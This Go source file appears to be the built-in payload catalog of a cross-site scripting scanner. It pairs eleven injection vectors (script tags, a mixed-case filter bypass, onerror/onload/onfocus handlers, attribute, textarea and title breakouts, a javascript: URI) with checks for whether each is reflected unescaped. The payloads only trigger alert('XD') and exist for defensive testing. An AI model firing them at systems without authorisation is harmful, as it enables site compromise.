package catalog

// Marker is the string every builtin vector tries to execute.
const Marker = "XD"

const (
	alertMarker = "alert('" + Marker + "')"
	echoProbe   = "xdprobe7f3a"
	quoteProbe  = `xdq7f3a"'<>`
)

// Builtin returns the catalog registered at startup. Every check holds only
// when the vector reached the response in a form able to leave its context.
func Builtin() []Test {
	return []Test{
		{
			Name:        "Echo probe",
			Vector:      echoProbe,
			Description: "Plain alphanumeric probe; shows whether the field is echoed at all.",
			Check:       Reflected(echoProbe),
		},
		{
			Name:        "Script tag",
			Vector:      "<script>" + alertMarker + "</script>",
			Description: "Inline script element injected into element content.",
			Check:       ScriptContains(alertMarker),
		},
		{
			Name:        "Mixed case script tag",
			Vector:      "<ScRiPt>" + alertMarker + "</sCrIpT>",
			Description: "Script element with mixed case to slip past case sensitive filters.",
			Check:       ScriptContains(alertMarker),
		},
		{
			Name:        "Image onerror",
			Vector:      "<img src=x onerror=" + alertMarker + ">",
			Description: "Broken image whose error handler runs script.",
			Check:       All(Selector("img[onerror]"), AttributeContains("onerror", alertMarker)),
		},
		{
			Name:        "Double quote breakout",
			Vector:      `"><svg onload=` + alertMarker + `>`,
			Description: "Closes a double quoted attribute and its tag, then injects an svg with an onload handler.",
			Check:       AttributeContains("onload", alertMarker),
		},
		{
			Name:        "Single quote breakout",
			Vector:      `'><svg onload=` + alertMarker + `>`,
			Description: "Closes a single quoted attribute and its tag, then injects an svg with an onload handler.",
			Check:       AttributeContains("onload", alertMarker),
		},
		{
			Name:        "Autofocus handler",
			Vector:      `" autofocus onfocus="` + alertMarker,
			Description: "Adds an event handler to the element the value is rendered in, without leaving the tag.",
			Check:       AttributeContains("onfocus", alertMarker),
		},
		{
			Name:        "JavaScript URI",
			Vector:      "javascript:" + alertMarker,
			Description: "Lands in a link, frame or form address and runs when followed.",
			Check: Any(
				Selector(`[href^="javascript:`+alertMarker+`"]`),
				Selector(`[src^="javascript:`+alertMarker+`"]`),
				Selector(`[action^="javascript:`+alertMarker+`"]`),
			),
		},
		{
			Name:        "Textarea breakout",
			Vector:      "</textarea><script>" + alertMarker + "</script>",
			Description: "Leaves a textarea's raw text content before injecting a script.",
			Check:       ScriptContains(alertMarker),
		},
		{
			Name:        "Title breakout",
			Vector:      "</title><script>" + alertMarker + "</script>",
			Description: "Leaves the document title before injecting a script.",
			Check:       ScriptContains(alertMarker),
		},
		{
			Name:        "Quote survival",
			Vector:      quoteProbe,
			Description: "Quotes come back unescaped even if brackets are encoded; enough to leave an attribute value.",
			Check:       Unescaped(quoteProbe, `"'`),
		},
	}
}
